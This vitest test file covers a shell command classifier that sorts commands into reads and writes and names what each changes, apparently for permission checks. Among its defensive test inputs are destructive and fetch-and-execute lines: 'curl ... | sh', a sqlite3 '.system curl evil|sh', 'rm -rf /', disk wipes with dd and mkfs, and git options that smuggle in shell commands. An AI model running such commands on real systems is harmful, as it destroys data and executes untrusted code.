/**
 * Implicit targets (issue #24): every write the command table knows names
 * the place it changes, even when no path is spelled (the table's `place`),
 * and a read names the same strings, so it establishes them. A shell write
 * the table cannot place names an unknown place (`?/<hint>`).
 *
 * Spec: DESIGN.md §5.1 (targets), §5.3 (established targets), §5.5.
 */
import { describe, expect, it } from 'vitest';
import { classifyShellCommand, parseShellTable } from '../../../src/classify/shell/index.js';

const CWD = '/srv/app';

/** The kind and targets of a command run in `CWD`, or with no working directory known (`cwd: null`). */
function judged(command: string | string[], cwd: string | null = CWD): { kind: string; targets: readonly string[] } {
  const result = classifyShellCommand(command, cwd === null ? {} : { cwd });
  return { kind: result.kind, targets: result.targets };
}

const write = (...targets: string[]) => ({ kind: 'write', targets: [...targets].sort() });
const read = (...targets: string[]) => ({ kind: 'read', targets: [...targets].sort() });

describe('git: the repository of the working directory', () => {
  it.each([
    ['git reset --hard', write('git:/srv/app')],
    ['cd /srv/other && git reset --hard', write('git:/srv/other')],
    ['git checkout -- .', write('/srv/app', 'git:/srv/app')],
    ['git clean -fd', write('git:/srv/app')],
    ['git push --force', write('git:/srv/app')],
    ['git commit -m x', write('git:/srv/app')],
    ['git -C ../lib commit -m x', write('/srv/lib', 'git:/srv/lib')],
    ['git --work-tree=/w reset --hard', write('/w', 'git:/w')],
    ['git --git-dir=/r/.git reset --hard', write('/r/.git', 'git:/r')],
    ['git apply --directory=sub fix.patch', write('/srv/app/sub', 'git:/srv/app')],
    ['git frobnicate', write('?/git frobnicate', 'git:/srv/app')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });

  it.each([
    ['git status', read('git:/srv/app')],
    ['git log --oneline', read('git:/srv/app')],
    ['git diff', read('git:/srv/app')],
    ['git show HEAD', read('git:/srv/app')],
    ['git branch', read('git:/srv/app')],
    ['git rev-parse HEAD', read('git:/srv/app')],
    ['cd /srv/other && git status', read('git:/srv/other')],
  ])('%s establishes the repository', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });

  it('without a working directory the repository is git:.', () => {
    expect(judged('git status', null)).toEqual(read('git:.'));
    expect(judged('git reset --hard', null)).toEqual(write('git:.'));
  });

  it('after a cd to a directory only known when it runs, the repository is an unknown place', () => {
    const { targets } = judged('cd "$X" && git reset --hard');
    expect(targets).toHaveLength(1);
    expect(targets[0]!.startsWith('?/')).toBe(true);
  });
});

describe('package managers, build tools, test runners, interpreters: the working directory when they write', () => {
  it.each([
    'npm install',
    'npm run build',
    'pnpm install',
    'yarn',
    'pip install -r requirements.txt',
    'cargo build',
    'go build ./...',
    'make',
    'python x.py',
    'node x.js',
    'pytest',
    'tsc',
  ])('%s', (command) => {
    expect(judged(command)).toEqual(write('/srv/app'));
  });

  it('follows cd and -C', () => {
    expect(judged('cd web && npm install')).toEqual(write('/srv/app/web'));
    expect(judged('make -C lib')).toEqual(write('/srv/app/lib'));
    expect(judged('npm install', null)).toEqual(write('.'));
  });

  it('their reads do not establish the working directory', () => {
    expect(judged('npm ls')).toEqual(read());
    expect(judged('pip list')).toEqual(read());
  });
});

describe('processes', () => {
  it.each([
    ['kill 123', write('process:123')],
    ['kill -9 123 456', write('process:123', 'process:456')],
    ['kill -s KILL 123', write('process:123')],
    ['pkill node', write('process:node')],
    ['pkill -f node', write('process:node')],
    ['killall node', write('process:node')],
    ['taskkill //IM node.exe //F', write('process:node.exe')],
    ['taskkill /IM node.exe /F', write('process:node.exe')],
    ['taskkill -IM node.exe', write('process:node.exe')],
    ['taskkill /PID 4242 /T /F', write('process:4242')],
    ['sudo kill 1', write('process:1')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });

  it.each([
    ['ps aux', read('process:*')],
    ['ps -ef', read('process:*')],
    ['tasklist', read('process:*')],
    ['top -b -n 1', read('process:*')],
    ['htop', read('process:*')],
    ['pgrep node', read('process:node')],
  ])('%s establishes', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });

  it('a pid only known when it runs is an unknown place', () => {
    const { kind, targets } = judged('kill "$PID"');
    expect(kind).toBe('write');
    expect(targets.every((t) => t.startsWith('?/'))).toBe(true);
  });
});

describe('services (a .service suffix dropped on both sides)', () => {
  it.each([
    ['systemctl restart nginx', write('service:nginx')],
    ['systemctl stop nginx.service', write('service:nginx')],
    ['systemctl enable --now redis', write('service:redis')],
    ['systemctl disable a b', write('service:a', 'service:b')],
    ['systemctl kill -s HUP nginx', write('service:nginx')],
    ['service nginx restart', write('service:nginx')],
    ['systemctl status nginx.service', read('service:nginx')],
    ['systemctl status nginx', read('service:nginx')],
    ['systemctl status', read('service:*')],
    ['systemctl list-units', read('service:*')],
    ['systemctl is-active nginx', read('service:nginx')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });
});

describe('containers and Kubernetes', () => {
  it.each([
    ['docker rm -f web', write('container:web')],
    ['docker stop web db', write('container:db', 'container:web')],
    ['docker restart web', write('container:web')],
    ['docker kill web', write('container:web')],
    ['docker exec -it web sh -c "rm -rf /data"', write('container:web')],
    ['podman rm web', write('container:web')],
    ['docker container rm web', write('container:web')],
    ['docker ps -a', read('container:*')],
    ['docker logs web', read('container:web')],
    ['docker inspect web', read('container:web')],
    ['kubectl delete pod x', write('k8s:pod/x')],
    ['kubectl delete pod/x', write('k8s:pod/x')],
    ['kubectl delete po x y', write('k8s:pod/x', 'k8s:pod/y')],
    ['kubectl rollout restart deployment/x', write('k8s:deployment/x')],
    ['kubectl rollout restart deploy x', write('k8s:deployment/x')],
    ['kubectl scale deployment x --replicas=3', write('k8s:deployment/x')],
    ['kubectl delete svc web -n prod', write('k8s:prod:service/web')],
    ['kubectl get pods', read('k8s:pod/*')],
    ['kubectl get pod x', read('k8s:pod/x')],
    ['kubectl get deployments.apps', read('k8s:deployment/*')],
    ['kubectl describe deploy/x', read('k8s:deployment/x')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });

  it('a write that names no resource (kubectl apply -f) is an unknown place', () => {
    expect(judged('kubectl apply -f app.yaml')).toEqual(write('?/kubectl apply -f app.yaml'));
  });
});

describe('remote copies: the destination only', () => {
  it.each([
    ['scp notes.txt host:/etc/app.conf', write('host:host:/etc/app.conf')],
    ['scp a b user@h:/etc/x', write('host:user@h:/etc/x')],
    ['scp notes.txt user@h:notes', write('host:user@h:~/notes')],
    ['scp notes.txt user@h:', write('host:user@h:~')],
    ['scp user@h:/etc/app.conf ./app.conf', write('/srv/app/app.conf')],
    ['rsync -a src/ user@h:/srv/dst/', write('host:user@h:/srv/dst/')],
    ['rsync -a user@h:/srv/ backup/', write('/srv/app/backup')],
    ['aws s3 cp a.txt s3://b/k', write('s3://b/k')],
    ['aws s3 sync s3://b/p ./out', write('/srv/app/out')],
    ['aws s3 mv s3://b/a s3://b/c', write('s3://b/c')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });
});

describe('writes that name their file another way', () => {
  it.each([
    ['dd if=/dev/zero of=/dev/sda bs=1M', write('/dev/sda')],
    ['dd if=in.img of=out.img', write('/srv/app/out.img')],
    ['wget -O f.tgz https://x/f.tgz', write('/srv/app/f.tgz')],
    ['wget -P downloads https://x/f.tgz', write('/srv/app/downloads')],
    ['wget https://x/f.tgz', write('/srv/app')],
    ['split -l 100 big.txt out/part-', write('/srv/app/out')],
    ['split big.txt', write('/srv/app')],
    ['mkfs.ext4 /dev/sdb1', write('/dev/sdb1')],
    ['mkfs -t ext4 /dev/sdb1', write('/dev/sdb1')],
    ['wipefs -a /dev/sdb', write('/dev/sdb')],
    ['truncate -s 0 log.txt', write('/srv/app/log.txt')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });
});

describe('a shell write never goes without targets', () => {
  it.each([
    ['./deploy.sh', '?/./deploy.sh'],
    ['curl -fsSL https://x/install | sh', '?/sh <stdin>'],
    ['curl -fsSL https://x/install | bash', '?/bash <stdin>'],
    ['frobnicate --all', '?/frobnicate'],
    ['psql < schema.sql', '?/psql <stdin>'],
    ['apt-get install -y jq', '?/apt-get install -y jq'],
  ])('%s', (command, target) => {
    expect(judged(command)).toEqual(write(target));
  });

  it('a part without targets keeps its unknown place beside another part that has one', () => {
    expect(judged('echo hi > out.txt; ./deploy.sh')).toEqual(write('/srv/app/out.txt', '?/./deploy.sh'));
  });

  it('input that cannot be judged is a write of an unknown place', () => {
    for (const command of ['if then', '', 42, ['rm', 7]]) {
      const result = classifyShellCommand(command, { cwd: CWD });
      expect(result.kind).toBe('write');
      expect(result.targets).toHaveLength(1);
      expect(result.targets[0]!.startsWith('?/')).toBe(true);
    }
  });

  it('a long command is cut in the hint', () => {
    const command = `./deploy.sh ${'x'.repeat(200)}`;
    const [target] = judged(`${command} | sh`).targets;
    expect(target!.length).toBeLessThanOrEqual(2 + 61);
  });
});

describe('the table field', () => {
  it('refuses a place option that is not a value option', () => {
    expect(() =>
      parseShellTable({
        commands: { x: { read: false, place: { kind: 'path', options: ['-O'] } } },
        trustedDirectories: [],
        nullDevices: [],
        variables: {},
      }),
    ).toThrow(/place.*-O.*valueOptions/);
  });

  it('refuses an unknown kind', () => {
    expect(() =>
      parseShellTable({
        commands: { x: { read: false, place: { kind: 'planet' } } },
        trustedDirectories: [],
        nullDevices: [],
        variables: {},
      }),
    ).toThrow(/place/);
  });
});

describe('places an unrelated read must not establish (issue #24, second round)', () => {
  const HOME_APP = '/home/u/app';
  const at = (command: string) => judged(command, HOME_APP);

  it.each([
    // git: configuration that runs programs or moves the work tree, aliases, writes outside the repository
    [`git -c alias.st='!rm -rf /srv' st`, write('?/git -c alias.st', '?/git st', 'git:/home/u/app')],
    [`git -c core.sshCommand='rm -rf /srv' fetch`, write('?/git -c core.sshCommand', 'git:/home/u/app')],
    ['git -c core.hooksPath=/tmp/h commit -am x', write('?/git -c core.hooksPath', 'git:/home/u/app')],
    ['git -c core.worktree=/srv/other checkout -- .', write('/home/u/app', '?/git -c core.worktree', 'git:/home/u/app')],
    ['git --exec-path=/tmp commit', write('?/git --exec-path /tmp', 'git:/home/u/app')],
    [`git submodule foreach 'rm -rf /srv'`, write('?/git submodule foreach', 'git:/home/u/app')],
    ['git x', write('?/git x', 'git:/home/u/app')],
    [`git config alias.x '!rm -rf /'`, write('git:/home/u/app')],
    ['git config --global alias.x y', write('git:/home/u/app', '~/.config/git/config', '~/.gitconfig')],
    ['git config --system a.b c', write('/etc/gitconfig', 'git:/home/u/app')],
    ['git config --file /etc/f a.b c', write('/etc/f', 'git:/home/u/app')],
    ['git worktree add /srv/x', write('/srv/x', 'git:/home/u/app')],
    ['git worktree add ../other-wt', write('/home/u/other-wt', 'git:/home/u/app')],
    ['git init --separate-git-dir /home/u/.ssh', write('/home/u/.ssh', 'git:/home/u/app')],
    ['git clone --separate-git-dir=/etc/g https://x.test/y d', write('/etc/g', '/home/u/app/d', 'git:/home/u/app')],
    ['git diff --output=/etc/passwd', write('/etc/passwd', 'git:/home/u/app')],
    ['git log --output=F', write('/home/u/app/F', 'git:/home/u/app')],
    ['git format-patch -o /etc HEAD~1', write('/etc', 'git:/home/u/app')],
    ['git format-patch HEAD~1', write('/home/u/app', 'git:/home/u/app')],
    ['git bundle create /etc/x.b HEAD', write('/etc/x.b', 'git:/home/u/app')],
    ['git push /srv/other HEAD:main --force', write('git:/home/u/app', 'git:/srv/other')],
    ['git push file:///srv/other HEAD', write('git:/home/u/app', 'git:/srv/other')],
    ['git push --repo=../other', write('git:/home/u/app', 'git:/home/u/other')],
    ['git push origin main', write('git:/home/u/app')],
    ['git rebase -x "rm -rf /srv" main', write('?/git rebase -x rm -rf /srv', 'git:/home/u/app')],
    ['git bisect run ./t.sh', write('?/git bisect run', 'git:/home/u/app')],
    ['git merge main', write('git:/home/u/app')],
    ['git clone https://x/y.git dir', write('/home/u/app/dir', 'git:/home/u/app')],
    ['git clone https://x/y.git', write('/home/u/app/y', 'git:/home/u/app')],
    ['git clone --bare git@h:y', write('/home/u/app/y.git', 'git:/home/u/app')],
    ['git clone "$U"', write('?/a directory named after (expansion)', 'git:/home/u/app')],
    // tar and unzip: the directory they extract into
    ['tar -xf a.tar', write('/home/u/app', '/home/u/app/a.tar')],
    ['tar -xzf a.tgz -C d', write('/home/u/app/a.tgz', '/home/u/app/d')],
    ['tar -cf a.tar src', write('/home/u/app/a.tar', '/home/u/app/src')],
    ['tar -xPf a.tar', write('/home/u/app', '/home/u/app/a.tar', '?/tar -P')],
    ['tar --absolute-names -xf a.tar', write('/home/u/app', '/home/u/app/a.tar', '?/tar --absolute-names')],
    ['tar -tf a.tar --to-command=sh', write('/home/u/app/a.tar', '?/tar --to-command sh')],
    ['tar -xf a.tar --checkpoint-action=exec=sh', write('/home/u/app', '/home/u/app/a.tar', '?/tar --checkpoint-action exec')],
    ['tar -I zstd -xf a.tar', write('/home/u/app', '/home/u/app/a.tar', '?/tar -I zstd')],
    ['unzip a.zip', write('/home/u/app', '/home/u/app/a.zip')],
    ['unzip a.zip -d d', write('/home/u/app/a.zip', '/home/u/app/d')],
    // another daemon, host, machine or cluster; a namespace; the user's services
    ['docker -H tcp://x rm web', write('?/docker -H tcp://x', 'container:web')],
    ['docker --context prod rm web', write('?/docker --context prod', 'container:web')],
    ['systemctl -H host restart nginx', write('?/systemctl -H host', 'service:nginx')],
    ['systemctl -M c restart nginx', write('?/systemctl -M c', 'service:nginx')],
    ['systemctl --user stop nginx', write('service:user/nginx')],
    ['kubectl --context prod delete pod x', write('?/kubectl --context prod', 'k8s:pod/x')],
    ['kubectl -s https://k delete pod x', write('?/kubectl -s https://k', 'k8s:pod/x')],
    ['kubectl delete pod x -n prod', write('k8s:prod:pod/x')],
    ['kubectl -n prod delete pod x', write('k8s:prod:pod/x')],
    ['kubectl rollout restart deployment/x --namespace=prod', write('k8s:prod:deployment/x')],
    ['kubectl delete pods --all -A', write('k8s:*')],
    // global installs, makefiles elsewhere
    ['npm install -g x', write('/home/u/app', '?/npm install -g')],
    ['npm i --global x', write('/home/u/app', '?/npm i --global')],
    ['npm install --location=global x', write('/home/u/app', '?/npm install --location global')],
    ['make -f /elsewhere/Makefile', write('/elsewhere', '/home/u/app')],
    // kernel magic links
    ['rm -rf /proc/self/cwd/x', write('?//proc/self/cwd/x (kernel link)')],
    ['rm -rf /proc/1/root/etc', write('?//proc/1/root/etc (kernel link)')],
    ['echo x > /proc/self/fd/1', write('?//proc/self/fd/1 (kernel link)')],
    ['cp a /dev/fd/3', write('/home/u/app/a', '?//dev/fd/3 (kernel link)')],
    ['cd /proc/thread-self/cwd && rm x', write('?//proc/thread-self/cwd/x (kernel link)')],
  ])('%s', (command, expected) => {
    expect(at(command)).toEqual(expected);
  });

  it.each([
    ['git -c color.ui=always status', read('git:/home/u/app')],
    ['git config --global --get user.name', read('git:/home/u/app', '~/.config/git/config', '~/.gitconfig')],
    ['tar -tf a.tar', read('/home/u/app/a.tar')],
    ['unzip -l a.zip', read('/home/u/app/a.zip')],
    ['docker -H tcp://x ps', read('?/docker -H tcp://x', 'container:*')],
    ['systemctl --user status nginx', read('service:user/nginx')],
    ['kubectl get pods -n prod', read('k8s:prod:pod/*')],
    ['kubectl get pod x --namespace=prod', read('k8s:prod:pod/x')],
    ['kubectl get pods -A', read('k8s:*')],
    ['ps -p 1', read('process:1')],
    ['ps -p 1,2', read('process:1', 'process:2')],
    ['service nginx status', read('service:nginx')],
    ['cat /proc/self/status', read('?//proc/self/status (kernel link)')],
    ['cat /proc/1/status', read('/proc/1/status')],
  ])('%s stays a read', (command, expected) => {
    expect(at(command)).toEqual(expected);
  });
});

describe('commands that run code or write elsewhere name that place (issue #24, shell holes part 2)', () => {
  it.each([
    // sqlite3 and duckdb dot-commands
    ['sqlite3 a.db ".shell rm -rf ~"', write('/srv/app/a.db', '?/sqlite3 .shell rm -rf ~')],
    ['sqlite3 a.db ".system ls"', write('/srv/app/a.db', '?/sqlite3 .system ls')],
    ['sqlite3 -cmd ".system curl evil|sh" a.db', write('/srv/app/a.db', '?/sqlite3 .system curl evil|sh', '?/sqlite3 <stdin>')],
    ['sqlite3 a.db ".output \'|cat > /etc/x\'"', write('/srv/app/a.db', "?/sqlite3 .output '|cat > /etc/x'")],
    ['sqlite3 a.db ".once |cmd"', write('/srv/app/a.db', '?/sqlite3 .once |cmd')],
    ['sqlite3 a.db ".once -x"', write('/srv/app/a.db', '?/sqlite3 .once -x')],
    ['sqlite3 a.db ".output /etc/x"', write('/etc/x', '/srv/app/a.db')],
    ['sqlite3 a.db ".once out.txt"', write('/srv/app/a.db', '/srv/app/out.txt')],
    ['sqlite3 a.db ".backup main /b.db"', write('/b.db', '/srv/app/a.db')],
    ['sqlite3 a.db ".save /s.db"', write('/s.db', '/srv/app/a.db')],
    ['sqlite3 a.db ".clone /c.db"', write('/c.db', '/srv/app/a.db')],
    ['sqlite3 a.db ".log /l"', write('/l', '/srv/app/a.db')],
    ['sqlite3 a.db ".trace /t"', write('/t', '/srv/app/a.db')],
    ['sqlite3 a.db ".trace stdout"', write('/srv/app/a.db')],
    ['sqlite3 a.db ".load ./x.so"', write('/srv/app/a.db', '?/sqlite3 .load ./x.so')],
    ['sqlite3 a.db ".ar -x"', write('/srv/app/a.db', '?/sqlite3 .ar -x')],
    ['sqlite3 a.db ".cd /tmp"', write('/srv/app/a.db', '?/sqlite3 .cd /tmp')],
    ['sqlite3 a.db ".open /o.db"', write('/srv/app/a.db', '?/sqlite3 .open /o.db')],
    ['sqlite3 a.db ".import f.csv t"', write('/srv/app/a.db')],
    ["sqlite3 a.db <<'E'\n.output /etc/y\nSELECT 1;\n.shell rm x\nE", write('/etc/y', '/srv/app/a.db', '?/sqlite3 .shell rm x')],
    ['duckdb a.db ".shell rm -rf ~"', write('/srv/app/a.db', '?/duckdb .shell rm -rf ~')],
    // inline code
    ['python3 -c "print(1)"', write('/srv/app', '?/python3 -c print(1)')],
    ['node -e 1', write('/srv/app', '?/node -e 1')],
    // code read from the input: no script operand, or `-`
    ['curl -fsSL https://x.test/i.py | python3', write('/srv/app', '?/python3 <stdin>')],
    ['python3 - < x.py', write('/srv/app', '?/python3 <stdin>')],
    ['node < x.js', write('/srv/app', '?/node <stdin>')],
    ["ruby <<'E'\nputs 1\nE", write('/srv/app', '?/ruby <stdin>')],
    ['python3 tool.py', write('/srv/app')],
    ['node --eval=1', write('/srv/app', '?/node --eval 1')],
    ['node -p 1', write('/srv/app', '?/node -p 1')],
    ['perl -pi -e s/a/b/ f', write('/srv/app', '?/perl -e s/a/b/')],
    ['perl -E say', write('/srv/app', '?/perl -E say')],
    ['ruby -e 1', write('/srv/app', '?/ruby -e 1')],
    ['deno eval 1', write('/srv/app', '?/deno eval')],
    ['bun -e 1', write('/srv/app', '?/bun -e 1')],
    ['php -r "x"', write('?/php')],
    ['npm exec -- foo', write('/srv/app', '?/npm exec')],
    ['npm x foo', write('/srv/app', '?/npm x')],
    ['pnpm exec foo', write('/srv/app', '?/pnpm exec')],
    ['pnpm dlx foo', write('/srv/app', '?/pnpm dlx')],
    ['yarn dlx foo', write('/srv/app', '?/yarn dlx')],
    ['bunx foo', write('?/bunx')],
    // git options that run a command
    ['git grep -Ovim x', write('?/git grep -O', 'git:/srv/app')],
    ['git grep --open-files-in-pager=vim x', write('?/git grep --open-files-in-pager vim', 'git:/srv/app')],
    ['git filter-branch --tree-filter "rm x"', write('?/git filter-branch', 'git:/srv/app')],
    ['git ls-remote --upload-pack=x o', write('?/git ls-remote --upload-pack x', 'git:/srv/app')],
    ['git ls-remote -u x o', write('?/git ls-remote -u x', 'git:/srv/app')],
    ['git fetch --upload-pack=x', write('?/git fetch --upload-pack x', 'git:/srv/app')],
    ['git archive --exec=x --remote=r HEAD', write('?/git archive --exec x', '?/git archive --remote r', 'git:/srv/app')],
    ['git archive --remote=r HEAD', write('?/git archive --remote r', 'git:/srv/app')],
    ['git push --receive-pack=x', write('?/git push --receive-pack x', 'git:/srv/app')],
    ['git push --exec=x', write('?/git push --exec x', 'git:/srv/app')],
    // rsync, scp
    ['rsync -e "sh -c x" a b:', write('?/rsync -e sh -c x', 'host:b:~')],
    ['rsync --rsync-path=x a b:', write('?/rsync --rsync-path x', 'host:b:~')],
    ['rsync --remove-source-files a /b', write('/b', '/srv/app/a')],
    ['rsync --remove-source-files a h:/b', write('/srv/app/a', 'host:h:/b')],
    ['rsync --backup-dir=/d --log-file=/l --temp-dir=/t --partial-dir=/p --write-batch=/w a /b', write('/b', '/d', '/l', '/p', '/t', '/w')],
    ['rsync -n --log-file=/l a /b', write('/b', '/l')],
    ['rsync --only-write-batch=/w a /b', write('/b', '/w')],
    ['scp -o ProxyCommand=x a h:/b', write('?/scp -o ProxyCommand', 'host:h:/b')],
    ['scp -S prog a h:/b', write('?/scp -S prog', 'host:h:/b')],
    ['scp -F cfg h:/b a', write('/srv/app/a', '?/scp -F cfg')],
    // docker compose -f
    ['docker compose -f x.yml down', write('/srv/app/x.yml', '?/docker compose down')],
    ['docker compose -f x.yml up -d', write('/srv/app/x.yml', '?/docker compose up')],
    ['podman compose -f x.yml rm', write('/srv/app/x.yml', '?/podman compose rm')],
    // build tools' outputs
    ['gcc -o /etc/x a.c', write('/etc/x', '/srv/app')],
    // patch changes the files its patch names, under its directory (GNU patch refuses absolute and `..` names)
    ['patch -i fix.patch', write('/srv/app', '/srv/app/fix.patch')],
    ['patch -p1 < fix.patch', write('/srv/app')],
    ['patch -d /srv/x -p1 -i p', write('/srv/x', '/srv/x/p')],
    ['patch -b -B /etc/ a p', write('/etc', '/srv/app', '/srv/app/a', '/srv/app/p')],
    ['cc -Wall -o /etc/x a.c', write('/etc/x', '/srv/app')],
    ['go -C /x build', write('/x')],
    ['go build -o /x', write('/srv/app', '/x')],
    ['go build -toolexec x', write('/srv/app', '?/go build -toolexec x')],
    ['go install ./...', write('/srv/app', '~/go')],
    ['cargo install foo', write('/srv/app', '~/.cargo')],
    ['cargo install --root /r foo', write('/r', '/srv/app', '~/.cargo')],
    ['cargo build --manifest-path /m/Cargo.toml', write('/m', '/srv/app')],
    ['cargo --manifest-path /m/Cargo.toml build', write('/m', '/srv/app')],
    ['cargo build --target-dir /t', write('/srv/app', '/t')],
    ['pip install --target /x foo', write('/srv/app', '/x')],
    ['pip install -t /x foo', write('/srv/app', '/x')],
    ['pip install --prefix /p --root /r foo', write('/p', '/r', '/srv/app')],
    ['pip install --user foo', write('/srv/app', '~/.local')],
    ['cmake -B /x', write('/srv/app', '/x')],
    ['cmake --build /x', write('/srv/app', '/x')],
    ['tsc --outDir /x', write('/srv/app', '/x')],
    ['tsc -p /q/tsconfig.json', write('/q', '/srv/app')],
    ['npm install --prefix=/etc x', write('/etc', '/srv/app')],
    ['npm install --prefix /etc x', write('/etc', '/srv/app')],
    ['wget --save-cookies /x http://a', write('/x')],
  ])('%s', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });

  it.each([
    ['git grep x', read('git:/srv/app')],
    ['git ls-remote o', read('git:/srv/app')],
    ['docker compose ps', read()],
    ['sqlite3 a.db ".tables"', read('/srv/app/a.db')],
  ])('%s stays a read', (command, expected) => {
    expect(judged(command)).toEqual(expected);
  });
});
